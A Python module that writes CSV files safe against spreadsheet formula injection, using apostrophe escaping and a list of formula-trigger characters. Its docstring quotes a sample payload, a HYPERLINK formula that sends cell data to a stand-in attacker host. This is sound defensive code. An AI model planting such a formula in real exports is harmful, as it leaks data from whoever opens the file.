"""The CSV files mazesim writes, safe to open in a spreadsheet (no formula injection).

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a participant's answer `=HYPERLINK("http://evil.example/?"&A1)`
or an id `-A1-B1` would run when the experimenter opens the table. Every CSV file of the project
is written through `writer`, whose cells pass `safe_cell`: such a text cell gets the usual
leading apostrophe, which the spreadsheet shows as text. Numbers stay numbers (`-3` as a number
is written `-3`), and so does a text cell that is exactly a number literal (`"-3"`, `"+1.5e3"`:
a spreadsheet reads it as that number, which runs nothing). A text cell that already begins
with an apostrophe gets one more, so that removing one leading apostrophe from every cell that
has one gives back exactly the text written.
"""

from __future__ import annotations

import csv
import numbers
import re
from typing import Any, Iterable, TextIO

__all__ = ["FORMULA_STARTS", "APOSTROPHE", "safe_cell", "writer", "CsvWriter"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula (OWASP's list)."""
APOSTROPHE = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_ESCAPED = frozenset(FORMULA_STARTS + (APOSTROPHE,))
_PLAIN = frozenset({int, float, bool, type(None)})
"""Types written as they are (the common cells: a fast path past `safe_cell`)."""


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell a spreadsheet shows and never evaluates: numbers (and None, an
    empty cell) unchanged, any other value as text, with a leading apostrophe when the text
    begins with a formula character (unless it is a number literal) or an apostrophe."""
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if text[:1] in _ESCAPED and not _NUMBER.fullmatch(text):
        return APOSTROPHE + text
    return text


def plain_cell(text: str) -> str:
    """The text `safe_cell` wrote as `text` (its leading apostrophe taken off)."""
    if text[:1] == APOSTROPHE and text[1:2] in _ESCAPED:
        return text[1:]
    return text


class CsvWriter:
    """`csv.writer` with every cell through `safe_cell` (`writerow`, `writerows`)."""

    def __init__(self, handle: TextIO, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(handle, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(map(_safe_row, rows))


def _safe_row(row: Iterable[Any]) -> list:
    """`safe_cell` of every cell; plain numbers and harmless text pass without a call (300,000
    trial rows of nine cells: 1.7 times the time of `csv.writer` alone, median of 7)."""
    return [c if type(c) in _PLAIN or (type(c) is str and c[:1] not in _ESCAPED)
            else safe_cell(c) for c in row]


def writer(handle: TextIO, lineterminator: str = "\r\n") -> CsvWriter:
    """The CSV writer of every table mazesim writes (a file opened with `newline=""`); rows end
    with CRLF, csv's default, or `lineterminator` (`"\n"` for a file cut up in a shell)."""
    return CsvWriter(handle, lineterminator)
